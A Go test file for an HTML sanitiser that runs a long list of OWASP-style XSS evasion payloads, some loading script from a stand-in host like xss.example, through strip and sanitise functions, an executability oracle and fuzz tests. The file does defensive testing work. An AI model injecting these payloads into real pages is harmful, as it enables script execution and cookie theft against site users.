package validate_test

import (
	"strings"
	"sync"
	"testing"

	"github.com/microcosm-cc/bluemonday"
	"golang.org/x/net/html"
	"golang.org/x/net/html/atom"

	"github.com/chainsync/middleware/validate"
)

// xssVectors are the well-known filter-evasion vectors (OWASP XSS Filter
// Evasion Cheat Sheet and mutation-XSS classics): script tags, event
// handlers, javascript:/vbscript:/data: URLs hidden with entities, case and
// white space, SVG and MathML, nested and unclosed tags.
var xssVectors = []string{
	`<script>alert(1)</script>`,
	`<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>`,
	`<SCRIPT/XSS SRC="http://xss.example/xss.js"></SCRIPT>`,
	`<<SCRIPT>alert("XSS");//\<</SCRIPT>`,
	`<SCRIPT SRC=http://xss.example/xss.js?< B >`,
	`<scr<script>ipt>alert(1)</scr</script>ipt>`,
	`</TITLE><SCRIPT>alert("XSS");</SCRIPT>`,
	`<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\>`,
	`<IMG SRC="javascript:alert('XSS');">`,
	`<IMG SRC=javascript:alert('XSS')>`,
	`<IMG SRC=JaVaScRiPt:alert('XSS')>`,
	"<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
	`<IMG SRC=javascript:alert(&quot;XSS&quot;)>`,
	`<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>`,
	`<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>`,
	`<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>`,
	`<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>`,
	"<IMG SRC=\"jav\tascript:alert('XSS');\">",
	`<IMG SRC="jav&#x09;ascript:alert('XSS');">`,
	`<IMG SRC="jav&#x0A;ascript:alert('XSS');">`,
	`<IMG SRC="jav&#x0D;ascript:alert('XSS');">`,
	`<IMG SRC=" &#14;  javascript:alert('XSS');">`,
	"<a href=\"javas\x00cript:alert(1)\">x</a>",
	`<a href="&#1;javascript:alert(1)">x</a>`,
	`<a href="java&Tab;script:alert(1)">x</a>`,
	`<a href="javascript&colon;alert(1)">x</a>`,
	`<a href="  javascript:alert(1)">x</a>`,
	`<a href="vbscript:msgbox(1)">x</a>`,
	`<IMG SRC='vbscript:msgbox("XSS")'>`,
	`<a onmouseover="alert(document.cookie)">xxs link</a>`,
	`<IMG SRC=# onmouseover="alert('xxs')">`,
	`<IMG SRC= onmouseover="alert('xxs')">`,
	`<IMG onmouseover="alert('xxs')">`,
	`<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>`,
	`<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">`,
	`<img src=x onerror=alert(1)>`,
	`<img src=x onerror=alert(1)//`,
	`<div><img src=x onerror=alert(1)`,
	"<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
	`<details open ontoggle=alert(1)>`,
	`<xss onafterscriptexecute=alert(1)><script>1</script>`,
	`<video><source onerror="alert(1)">`,
	`<audio src=x onerror=alert(1)>`,
	`<svg/onload=alert('XSS')>`,
	`<svg><script>alert(1)</script></svg>`,
	`<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>`,
	`<svg><animate onbegin=alert(1) attributeName=x dur=1s>`,
	`<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
	`<math href="javascript:alert(1)">CLICK</math>`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
	`<p title="</p><script>alert(1)</script>">x</p>`,
	`<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`,
	`<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`,
	`<img srcset="javascript:alert(1)">`,
	`<iframe src=http://xss.example/scriptlet.html <`,
	`<iframe srcdoc="<script>alert(1)</script>">`,
	`<object data="javascript:alert(1)">`,
	`<embed src="javascript:alert(1)">`,
	`<INPUT TYPE="IMAGE" SRC="javascript:alert('XSS');">`,
	`<form action="javascript:alert(1)"><button>x</button></form>`,
	`<button formaction="javascript:alert(1)">x</button>`,
	`<BODY BACKGROUND="javascript:alert('XSS')">`,
	`<TABLE BACKGROUND="javascript:alert('XSS')">`,
	`<IMG DYNSRC="javascript:alert('XSS')">`,
	`<IMG LOWSRC="javascript:alert('XSS')">`,
	`<STYLE>li {list-style-image: url("javascript:alert('XSS')");}</STYLE><UL><LI>XSS</br>`,
	`<DIV STYLE="background-image: url(javascript:alert('XSS'))">`,
	`<DIV STYLE="width: expression(alert('XSS'));">`,
	`<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">`,
	`<BASE HREF="javascript:alert('XSS');//">`,
	`<LINK REL="stylesheet" HREF="javascript:alert('XSS');">`,
	`<template><script>alert(1)</script></template>`,
	`<a href="https://example.com" onclick="alert(1)" style="color:red">ok</a>`,
	`<a href="javascript&#58;alert(1)">x</a>`,
	`<a href="&#x6A;avascript:alert(1)">x</a>`,
	`<a href="java&NewLine;script:alert(1)">x</a>`,
	`<a href="jav&#x0000009;ascript:alert(1)">x</a>`,
	`<a href="JAVASCRIPT:alert(1)">x</a>`,
	`<a href="livescript:alert(1)">x</a>`,
	`<a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">x</a>`,
	`<a href=" data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`,
	`<img src="x:gif" onerror="eval(src)">`,
	`<img src="/" =_=" title="onerror='alert(1)'">`,
	`<img """ onerror=alert(1) "">`,
	`<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0ieCIgb25sb2FkPSJhbGVydCgxKSIvPg==#x"/></svg>`,
	`<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>`,
	`<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>`,
	`<style>@import 'https://xss.example/x.css';</style>`,
	`<object type="text/x-scriptlet" data="https://xss.example/scriptlet.html"></object>`,
	`<isindex type=image src=1 onerror=alert(1)>`,
	`<a href="#" onfocus=alert(1) autofocus tabindex=1>x</a>`,
	`<div draggable="true" ondragstart="alert(1)">x</div>`,
	`<table><td background="javascript:alert(1)">x</td></table>`,
	`<blockquote cite="javascript:alert(1)">x</blockquote>`,
	`<q cite="javascript:alert(1)">x</q>`,
	`<video poster="javascript:alert(1)"></video>`,
	`<img src="https://ok.example/a.png" srcset="javascript:alert(1) 1x">`,
	`<<img src=x onerror=alert(1)//<`,
	`<img src=x onerror=alert(1)<!--`,
	`<!--<img src="--><img src=x onerror=alert(1)//">`,
	`<![CDATA[<script>alert(1)</script>]]>`,
	`<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>`,
	`<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>`,
	`<xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp>`,
	`<select><template><style><img src=x onerror=alert(1)></style></template></select>`,
}

// forbidden elements: they run script, load active content, or change how
// the page around them is parsed.
var forbidden = map[atom.Atom]bool{
	atom.Script: true, atom.Style: true, atom.Iframe: true, atom.Frame: true, atom.Frameset: true,
	atom.Object: true, atom.Embed: true, atom.Applet: true, atom.Svg: true, atom.Math: true,
	atom.Base: true, atom.Meta: true, atom.Link: true, atom.Form: true, atom.Input: true,
	atom.Button: true, atom.Textarea: true, atom.Select: true, atom.Template: true, atom.Noscript: true,
	atom.Body: true, atom.Video: true, atom.Audio: true, atom.Source: true,
}

var urlAttrs = map[string]bool{"href": true, "src": true, "srcset": true, "action": true, "formaction": true,
	"background": true, "dynsrc": true, "lowsrc": true, "xlink:href": true, "poster": true, "data": true, "cite": true}

// executable returns what in out, parsed as a browser would in a page body,
// can run script, or "".
func executable(t *testing.T, out string) string {
	t.Helper()
	ctx := &html.Node{Type: html.ElementNode, Data: "body", DataAtom: atom.Body}
	nodes, err := html.ParseFragment(strings.NewReader(out), ctx)
	if err != nil {
		return "unparseable: " + err.Error()
	}
	var found string
	var walk func(n *html.Node)
	walk = func(n *html.Node) {
		if found != "" {
			return
		}
		if n.Type == html.ElementNode {
			if forbidden[n.DataAtom] || n.Namespace != "" {
				found = "element " + n.Data
				return
			}
			for _, a := range n.Attr {
				key := strings.ToLower(a.Key)
				if a.Namespace != "" {
					key = a.Namespace + ":" + key
				}
				switch {
				case strings.HasPrefix(key, "on"):
					found = "event handler " + key
				case key == "style" || key == "srcdoc":
					found = "attribute " + key
				case urlAttrs[key] && dangerousURL(a.Val):
					found = "URL " + key + "=" + a.Val
				}
				if found != "" {
					return
				}
			}
		}
		for c := n.FirstChild; c != nil; c = c.NextSibling {
			walk(c)
		}
	}
	for _, n := range nodes {
		walk(n)
	}
	return found
}

// dangerousURL reports whether v, as a browser reads it (control
// characters and white space dropped, case folded), has a scheme that runs
// script or embeds a document.
func dangerousURL(v string) bool {
	var b strings.Builder
	for _, r := range v {
		if r > ' ' && r != 0x7f {
			b.WriteRune(r)
		}
	}
	s := strings.ToLower(b.String())
	for _, scheme := range []string{"javascript:", "vbscript:", "livescript:", "data:"} {
		if strings.HasPrefix(s, scheme) {
			return true
		}
	}
	return false
}

func TestSanitizersAgainstXSSVectors(t *testing.T) {
	for _, v := range xssVectors {
		t.Run(v, func(t *testing.T) {
			t.Parallel()
			strip := validate.StripHTML(v)
			if strings.ContainsAny(strip, "<>") {
				t.Errorf("StripHTML left markup: %q", strip)
			}
			if what := executable(t, strip); what != "" {
				t.Errorf("StripHTML(%q) = %q keeps %s", v, strip, what)
			}
			san := validate.SanitizeHTML(v)
			if what := executable(t, san); what != "" {
				t.Errorf("SanitizeHTML(%q) = %q keeps %s", v, san, what)
			}
			// Markup that follows in the page must not complete a tag
			// left open.
			for _, after := range []string{">", `">`, "'>", "<b>x</b>"} {
				if what := executable(t, san+after); what != "" {
					t.Errorf("SanitizeHTML(%q) + %q = %q keeps %s", v, after, san+after, what)
				}
			}
			// Sanitising the output again must not make it dangerous
			// (mutation XSS through a second pass, e.g. in a later edit).
			if what := executable(t, validate.SanitizeHTML(san)); what != "" {
				t.Errorf("SanitizeHTML twice keeps %s", what)
			}
		})
	}
}

func TestStripHTML(t *testing.T) {
	tests := []struct{ in, want string }{
		{"Salt & Pepper; Large", "Salt &amp; Pepper; Large"},
		{"O'Brien", "O&#39;Brien"},
		{`<b>Bold</b> move`, "Bold move"},
		{`a < b > c`, "a &lt; b &gt; c"},
		{`<script>alert(1)</script>Safe`, "Safe"},
		{`Tom &amp; Jerry`, "Tom &amp; Jerry"},
		{"", ""},
	}
	for _, tt := range tests {
		t.Run(tt.in, func(t *testing.T) {
			if got := validate.StripHTML(tt.in); got != tt.want {
				t.Fatalf("StripHTML(%q) = %q, want %q", tt.in, got, tt.want)
			}
		})
	}
}

func TestSanitizeHTML(t *testing.T) {
	tests := []struct{ in, want string }{
		{`<p>Fresh <em>daily</em>, <strong>local</strong>.</p>`, `<p>Fresh <em>daily</em>, <strong>local</strong>.</p>`},
		{`<ul><li>one</li><li>two</li></ul>`, `<ul><li>one</li><li>two</li></ul>`},
		{`<a href="https://example.com/menu">Menu</a>`, `<a href="https://example.com/menu" rel="nofollow noopener" target="_blank">Menu</a>`},
		{`<a href="/menu">Menu</a>`, `<a href="/menu" rel="nofollow">Menu</a>`},
		{`<a href="mailto:shop@example.com">Mail</a>`, `<a href="mailto:shop@example.com" rel="nofollow">Mail</a>`},
		{`<a href="javascript:alert(1)">win</a>`, `win`},
		{`<p onclick="x()" style="color:red" class="c">t</p>`, `<p>t</p>`},
		{`<img src="https://cdn.example/a.png" alt="A" onerror="x()">`, `<img src="https://cdn.example/a.png" alt="A">`},
		{`Salt & Pepper`, `Salt &amp; Pepper`},
		// Reverse tabnabbing: a page opened with target="_blank" must not
		// get window.opener.
		{`<a href="https://example.com" target="_blank">x</a>`, `<a href="https://example.com" rel="nofollow noopener" target="_blank">x</a>`},
		{`<a href="https://example.com" target="_blank" rel="opener">x</a>`, `<a href="https://example.com" rel="nofollow noopener" target="_blank">x</a>`},
	}
	for _, tt := range tests {
		t.Run(tt.in, func(t *testing.T) {
			if got := validate.SanitizeHTML(tt.in); got != tt.want {
				t.Fatalf("SanitizeHTML(%q)\n got  %q\n want %q", tt.in, got, tt.want)
			}
		})
	}
}

func TestSanitizersConcurrently(t *testing.T) {
	var wg sync.WaitGroup
	for i := range 8 {
		wg.Go(func() {
			for j := range 50 {
				v := xssVectors[(i*50+j)%len(xssVectors)]
				if what := executable(t, validate.SanitizeHTML(v)); what != "" {
					t.Errorf("SanitizeHTML(%q) keeps %s", v, what)
				}
				if s := validate.StripHTML(v); strings.ContainsAny(s, "<>") {
					t.Errorf("StripHTML(%q) = %q", v, s)
				}
			}
		})
	}
	wg.Wait()
}

func FuzzStripHTML(f *testing.F) {
	for _, v := range xssVectors {
		f.Add(v)
	}
	f.Add("Salt & Pepper; Large")
	f.Add("Plain text, caf\xe9 \x00 \u2028 \t\n")
	strict := bluemonday.StrictPolicy() // the plain-text shortcut must agree with it
	f.Fuzz(func(t *testing.T, s string) {
		out := validate.StripHTML(s)
		if want := strict.Sanitize(s); out != want {
			t.Fatalf("StripHTML(%q) = %q, bluemonday gives %q", s, out, want)
		}
		if strings.ContainsAny(out, "<>") {
			t.Fatalf("StripHTML(%q) = %q has markup", s, out)
		}
		if what := executable(t, out); what != "" {
			t.Fatalf("StripHTML(%q) = %q keeps %s", s, out, what)
		}
	})
}

func FuzzSanitizeHTML(f *testing.F) {
	for _, v := range xssVectors {
		f.Add(v)
	}
	f.Add(`<p>Fresh <em>daily</em> <a href="https://example.com">menu</a></p>`)
	f.Add("Plain text, caf\xe9 \x00 \u2028 \t\n")
	ugc := bluemonday.UGCPolicy()
	f.Fuzz(func(t *testing.T, s string) {
		out := validate.SanitizeHTML(s)
		if !strings.ContainsAny(s, "<") { // no tags: the policy's options play no part
			if want := ugc.Sanitize(s); out != want {
				t.Fatalf("SanitizeHTML(%q) = %q, bluemonday gives %q", s, out, want)
			}
		}
		if what := executable(t, out); what != "" {
			t.Fatalf("SanitizeHTML(%q) = %q keeps %s", s, out, what)
		}
	})
}

// The oracle must see the danger in the raw vectors, or the tests above
// prove nothing.
func TestExecutableOracle(t *testing.T) {
	// Vectors an HTML5 parser (Go's, like today's browsers) already reads as
	// harmless: an unterminated tag at the end of input is dropped, NUL
	// becomes U+FFFD, a back-quoted value is not a URL scheme, a body tag
	// inside a body is ignored, and so on. They stay in the list for the
	// sanitisers (their output is also checked with markup appended).
	defused := map[string]bool{
		"<scr<script>ipt>alert(1)</scr</script>ipt>":             true,
		"<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>":   true,
		"<a href=\"javas\x00cript:alert(1)\">x</a>":              true,
		`<IMG SRC= onmouseover="alert('xxs')">`:                  true,
		`<img src=x onerror=alert(1)//`:                          true,
		`<div><img src=x onerror=alert(1)`:                       true,
		"<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>": true,
		`<p title="</p><script>alert(1)</script>">x</p>`:         true,
		`<iframe src=http://xss.example/scriptlet.html <`:        true,
		`<BODY BACKGROUND="javascript:alert('XSS')">`:            true,
		`<<img src=x onerror=alert(1)//<`:                        true,
		`<img src=x onerror=alert(1)<!--`:                        true,
		`<![CDATA[<script>alert(1)</script>]]>`:                  true, // a bogus comment in HTML
	}
	for _, v := range xssVectors {
		if !defused[v] && executable(t, v) == "" {
			t.Errorf("oracle misses %q", v)
		}
	}
	if what := executable(t, `<p>ok <a href="https://example.com">x</a></p>`); what != "" {
		t.Errorf("oracle flags safe markup: %s", what)
	}
}
